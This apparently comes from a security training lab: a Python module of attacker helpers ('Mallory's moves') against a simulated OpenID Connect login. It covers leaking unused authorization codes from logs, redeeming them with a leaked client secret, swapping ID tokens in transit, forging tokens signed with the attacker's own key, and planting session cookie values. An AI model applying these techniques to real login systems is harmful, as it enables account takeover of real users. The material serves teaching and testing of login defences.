"""Mallory's moves against logins at providers, a line or two each. Whole attacks are made of them."""

import base64
import json
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import replace
from typing import Any
from urllib.parse import parse_qsl, urlencode, urlsplit

import jwt

from labsrv.kit.browser.browser import Browser
from labsrv.kit.browser.requests import BrowserError
from labsrv.kit.http.arrival import Arrival
from labsrv.kit.http.transport import RawResponse, Request, Transport, Unreachable
from labsrv.kit.lessons.attacks import Outcome
from labsrv.kit.lessons.lab import Lab
from labsrv.labs.oidc.by_hand import claims_of
from labsrv.labs.oidc.neighbours import house
from labsrv.labs.oidc.people import CLIENT_ID, SECRETS, account_of, door, log_in, pass_the_provider
from labsrv.provider.outgoing import Outgoing, json_of
from labsrv.provider.rows.signing import key_pair, public_jwk

Claims = dict[str, Any]


# What others know of a login.


def last_url(lab: Lab, who: Browser, path: str) -> str:
    """Return the last address with this path that somebody's browser asked for: it is in logs, and in its history."""
    found = [each.url for each in lab.traffic if each.who == who.name and urlsplit(each.url).path == path]
    if found:
        return found[-1]

    raise LookupError(f"{who.name} has never asked for {path}.")


def parameters(url: str) -> dict[str, str]:
    """Return the parameters of an address."""
    return dict(parse_qsl(urlsplit(url).query))


def leak_a_code(lab: Lab, at: str) -> dict[str, str]:
    """Let a login of Alice's come to nothing, and read in the shop's log what she brought back: an unused code."""
    lab.alice.navigate(door(lab.shop, at))
    # Her browser tidies up its cookies at that moment.
    lab.alice.jar.remove("__Host-browser")
    pass_the_provider(lab.alice)
    return parameters(last_url(lab, lab.alice, "/callback"))


def begin(lab: Lab, at: str) -> dict[str, str]:
    """Let Mallory begin a login of her own, and return what the shop asks of the provider."""
    lab.mallory.navigate(door(lab.shop, at))
    return parameters(last_url(lab, lab.mallory, "/authorize"))


def answer(lab: Lab, **parameters: str) -> str:
    """Return the address at which the shop takes an answer."""
    return f"{lab.shop.callback}?{urlencode(parameters)}"


def go_as_far_as_the_answer(lab: Lab, browser: Browser, url: str) -> str:
    """Go through a provider's pages, and return the address that they lead to without going there."""
    with stopping_before(browser, lab.shop.callback) as stopped, suppress(BrowserError):
        browser.navigate(url)
        pass_the_provider(browser)
    if stopped:
        return stopped[-1]

    raise LookupError(f"{browser.name} was not sent back to the shop.")


class Stopping:
    """A transport that does not go to one page, and notes with what it should have gone there."""

    def __init__(self, transport: Transport, page: str):
        self.transport = transport
        self.page = page
        self.stopped: list[str] = []

    def send(self, request: Request, visit: Arrival) -> RawResponse:
        """Return the answer of any other page; raises `Unreachable`."""
        if request.url.split("?")[0] == self.page:
            self.stopped.append(request.url)
            raise Unreachable(f"{self.page} is not asked for.")
        return self.transport.send(request, visit)


@contextmanager
def stopping_before(browser: Browser, page: str) -> Iterator[list[str]]:
    """Keep a browser from a page; yield the addresses that it would have asked for."""
    before = browser.network.transport
    browser.network.transport = stopping = Stopping(before, page)
    try:
        yield stopping.stopped
    finally:
        browser.network.transport = before


# What she does with it.


def redeem(lab: Lab, **fields: str) -> Claims:
    """Go to the house's token endpoint with the shop's secret, which was in an old repository; return what comes."""
    secret = base64.b64encode(f"{CLIENT_ID}:{SECRETS['idp']}".encode()).decode()
    asked = Outgoing("mallory", lab).post_form(
        lab.url("idp", "/token"),
        {"redirect_uri": lab.shop.callback, **fields},
        {"Authorization": f"Basic {secret}"},
    )
    with suppress(ValueError):
        return dict(json_of(asked))
    return {}


def whose(lab: Lab, access_token: str) -> Claims:
    """Return what the house's provider says to whoever has an access token."""
    with suppress(ValueError):
        bearer = {"Authorization": f"Bearer {access_token}"}
        return dict(Outgoing("mallory", lab).get_json(lab.url("idp", "/userinfo"), bearer))
    return {}


def join_the_club(browser: Browser, lab: Lab) -> Claims:
    """Let somebody join Mallory's club with the house's provider; return the tokens that she has then."""
    browser.navigate(lab.sites["mallory"].url)
    browser.click("Join with Tea Identity.")
    pass_the_provider(browser)
    return dict(lab.db.mallory_members.find()[-1])


def subject_of(browser: Browser, lab: Lab) -> str:
    """Return somebody's subject at the house's provider: no secret, each application there knows it."""
    return str(claims_of(join_the_club(browser, lab)["id_token"])["sub"])


@contextmanager
def changed_on_the_line(lab: Lab, point: str, changes: Claims) -> Iterator[None]:
    """Change what comes from the house's provider on its way."""
    lab.db.mallory_line.replace_one({"_id": point}, {"_id": point, "changes": changes}, upsert=True)
    try:
        yield
    finally:
        lab.db.mallory_line.delete_many({"_id": point})


def swap_her_answer(lab: Lab, make: Callable[[Claims], str]) -> bool:
    """Have Alice's account, log in as herself, and get another ID token in; tell whether it opened Alice's account.

    She sits on the line between shop and provider. `make` makes the token of the claims that it needs.
    """
    wanted = alices_account(lab)
    sub = subject_of(lab.alice, lab)
    asked = begin(lab, "idp")
    now = int(time.time())
    claims = {"iss": lab.url("idp", ""), "sub": sub, "aud": CLIENT_ID, "nonce": asked["nonce"], "iat": now}
    tokens = {"id_token": make(claims | {"exp": now + 600, "auth_time": now})}
    with (
        changed_on_the_line(lab, "token_response", tokens),
        changed_on_the_line(lab, "userinfo", {"sub": sub, "name": "Alice"}),
    ):
        pass_the_provider(lab.mallory)
    return account_of(lab.mallory, lab.shop) == wanted


def published_key(lab: Lab) -> Claims:
    """Return the key that the house's provider signs with, as it is published."""
    return next(key for key in house(lab).keys.published() if key["alg"] == "RS256")


def with_her_own_key(claims: Claims, kid: str, **header: Any) -> str:
    """Return a token that Mallory has signed herself."""
    return jwt.encode(claims, key_pair("mallory", "ES256"), "ES256", headers={"kid": kid, "typ": "JWT", **header})


def her_key() -> Claims:
    """Return the public part of Mallory's key."""
    return public_jwk(key_pair("mallory", "ES256"), "ES256")


def use_cookie(lab: Lab, value: str) -> None:
    """Put a value into a cookie like one's own session."""
    log_in(lab.mallory, lab.shop)
    own = lab.mallory.jar.get("__Host-sid")
    if own:
        lab.mallory.jar.put(replace(own, value=value))


# What she came to.


def alices_account(lab: Lab) -> str:
    """Let Alice log in with the house's provider, and return the number of her account; "" where nobody can log in."""
    log_in(lab.alice, lab.shop)
    return account_of(lab.alice, lab.shop) or ""


def in_her_account(lab: Lab, account: str, yes: str, no: str) -> Outcome:
    """Return whether Mallory is in an account."""
    return told(bool(account) and account_of(lab.mallory, lab.shop) == account, yes, no)


def told(succeeded: bool, yes: str, no: str) -> Outcome:
    """Return the outcome with the sentence that fits."""
    return Outcome(succeeded, f"{yes if succeeded else no}.")


def last_userinfo(lab: Lab) -> Claims:
    """Return what the house's provider said last of somebody, as a cache before it would have it."""
    bodies = [each.response_body for each in lab.traffic if urlsplit(each.url).path == "/userinfo"]
    return dict(json.loads(bodies[-1])) if bodies else {}
